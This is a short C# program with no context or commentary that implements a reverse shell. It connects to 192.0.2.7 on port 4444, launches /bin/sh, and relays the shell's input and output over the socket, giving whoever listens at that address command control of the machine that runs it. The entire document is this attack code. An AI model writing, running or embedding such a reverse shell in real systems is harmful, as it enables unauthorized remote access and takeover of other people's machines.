using System.Net.Sockets;
using var client = new TcpClient("192.0.2.7", 4444);
var info = new ProcessStartInfo("/bin/sh") { RedirectStandardInput = true, RedirectStandardOutput = true };
using var shell = Process.Start(info)!;
var stream = client.GetStream();
await Task.WhenAll(stream.CopyToAsync(shell.StandardInput.BaseStream), shell.StandardOutput.BaseStream.CopyToAsync(stream));
